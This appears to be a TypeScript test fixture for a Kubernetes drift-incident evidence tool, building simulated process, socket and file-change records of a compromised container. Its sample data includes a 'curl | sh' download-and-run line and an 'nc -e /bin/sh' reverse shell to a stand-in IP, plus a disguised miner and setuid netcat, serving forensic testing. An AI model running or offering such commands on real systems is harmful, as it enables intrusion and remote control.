// The evidence of the example, and its parts.
import type { FileChange } from '../../../src/api/file-change.ts';
import type { DriftIncident } from '../../../src/api/incident.ts';
import type { ProcessRecord, SocketRecord } from '../../../src/api/process-record.ts';
import { buildManifest, canonicalJson, sha256, type Manifest } from '../../../src/evidence/manifest.ts';
import type { EvidenceInput } from '../../../src/report/input.ts';
import { APP_ID, at, hash } from './example.ts';

/** A process of the example's container. */
export function aProcess(
  pid: number,
  ppid: number,
  executable: Partial<ProcessRecord['executable']>,
  args: string[],
): ProcessRecord {
  const path = executable.path ?? '/usr/local/bin/webapp';
  return {
    container: 'app',
    containerId: APP_ID,
    pid,
    ppid,
    namespacePids: [pid, pid - 4200],
    startTicks: pid * 100,
    startedAt: at(pid - 4_300),
    name: path.split('/').at(-1) ?? '',
    state: 'S',
    args,
    executable: { path, deleted: false, memfd: false, sha256: hash(path), ...executable },
    uids: [0, 0, 0, 0],
    gids: [0, 0, 0, 0],
    capabilities: { effective: [], permitted: [], bounding: [] },
    namespaces: { net: 'net:[4026532000]' },
    openFiles: [],
    moreOpenFiles: 0,
    problems: [],
  };
}

/** A change of the example's container. */
export function aChange(change: Partial<FileChange> & Pick<FileChange, 'path'>): FileChange {
  return {
    container: 'app',
    containerId: APP_ID,
    where: 'Root',
    kind: 'Added',
    type: 'File',
    mode: 0o644,
    uid: 0,
    gid: 0,
    size: 1234,
    modifiedAt: at(-200),
    sha256: hash(change.path),
    executable: false,
    ...change,
  };
}

const PROCESSES: ProcessRecord[] = [
  aProcess(4201, 4100, {}, ['/usr/local/bin/webapp', '--listen', ':8080']),
  aProcess(4230, 4201, { path: '/bin/busybox' }, ['sh', '-c', 'curl -s http://198.51.100.7/x | sh']),
  aProcess(4233, 4230, { path: '/tmp/nc', kept: `node/executables/${hash('/tmp/nc')}` }, [
    'nc',
    '-e',
    '/bin/sh',
    '198.51.100.7',
    '4444',
  ]),
  aProcess(4240, 4233, { path: '/tmp/.x/miner', deleted: true }, ['[kworker/0:1]']),
  aProcess(4251, 4201, { path: '/memfd:update', memfd: true, deleted: true }, ['update', '--quiet']),
];
const SOCKETS: SocketRecord[] = [
  {
    namespace: 'net:[4026532000]',
    protocol: 'tcp',
    local: '0.0.0.0:8080',
    state: 'LISTEN',
    inode: 1,
    pids: [4201],
  },
  {
    namespace: 'net:[4026532000]',
    protocol: 'tcp',
    local: '10.0.1.17:41822',
    remote: '198.51.100.7:4444',
    state: 'ESTABLISHED',
    inode: 2,
    pids: [4233],
  },
  { namespace: 'net:[4026532000]', protocol: 'unix', local: '/run/app.sock', inode: 3, pids: [] },
];
const CHANGES: FileChange[] = [
  aChange({ path: '/tmp/nc', mode: 0o4755, executable: true, content: 'Elf', kept: 'app/tmp/nc' }),
  aChange({ path: '/tmp/.x/miner-config.json' }),
  aChange({
    path: '/usr/bin/curl',
    kind: 'Modified',
    mode: 0o755,
    executable: true,
    content: 'Elf',
    imageSha256: hash('image curl'),
  }),
  aChange({ path: '/etc/passwd', kind: 'Modified' }),
  { ...aChange({ path: '/var/log/app.log', kind: 'Deleted' }), type: 'Unknown' },
];
const ROTATE = {
  purpose: 'Credentials that were within reach of the pod: rotate these.',
  serviceAccount: {
    name: 'cart',
    tokens: [{ volume: 'kube-api-access-x', audience: 'the API server', expirationSeconds: 3607 }],
    secrets: [],
  },
  secrets: [{ name: 'cart-db', reachedBy: ['env DB_PASSWORD of container app (key password)'] }],
  configMaps: [{ name: 'cart-settings', reachedBy: ['volume settings'] }],
  secretProviderClasses: [],
};

/** Files of the example's evidence by path. */
export const EXAMPLE_FILES: Readonly<Record<string, string>> = {
  'api/pod.json': '{}',
  'node/filesystem.ndjson': CHANGES.map((change) => `${JSON.stringify(change)}\n`).join(''),
  'node/processes.json': JSON.stringify(PROCESSES),
  'node/sockets.json': JSON.stringify(SOCKETS),
  'rotate.json': JSON.stringify(ROTATE),
};

/** Manifest of such files. */
export function exampleManifest(
  incident: DriftIncident,
  files: Readonly<Record<string, string>>,
  change: Partial<Manifest> = {},
): Manifest {
  const { name, namespace = '', uid } = incident.metadata;
  const manifest = buildManifest({
    subject: { incident: { name, namespace, uid }, target: incident.spec.target },
    version: '0.1.0',
    attempt: 1,
    startedAt: at(1_400),
    finishedAt: at(9_800),
    limits: { maxBytes: 268_435_456, maxFiles: 20_000 },
    encryption: { kind: 'None' },
    files: Object.entries(files).map(([path, text]) => ({
      path,
      size: Buffer.byteLength(text),
      sha256: sha256(Buffer.from(text)),
      collector: path.startsWith('node/') ? 'processes' : 'api-snapshot',
      contentType: 'application/json',
      source: path.startsWith('node/') ? 'node node-1' : 'GET /api/v1/namespaces/shop/pods/cart-0',
      collectedAt: at(2_000),
      truncated: false,
    })),
    missing: [],
    problems: [
      { collector: 'logs', message: 'the log of container app before its last restart was refused: 403' },
    ],
  });
  return { ...manifest, ...change };
}

/** The evidence of {@link exampleIncident} as it is read; `files` take the place of those of the example. */
export function exampleEvidence(
  incident: DriftIncident,
  files: Readonly<Record<string, string>> = EXAMPLE_FILES,
  change: Partial<Manifest> = {},
): Extract<EvidenceInput, { state: 'Read' }> {
  const manifest = exampleManifest(incident, files, change);
  return {
    state: 'Read',
    location: '/evidence/cart',
    manifest,
    manifestSha256: sha256(Buffer.from(canonicalJson(manifest))),
    differences: [],
    signature: { tone: 'Unknown', text: 'nobody signed it' },
    files: new Map(
      Object.entries(files).map(([path, text]) => [path, { bytes: Buffer.from(text), cut: false }]),
    ),
  };
}
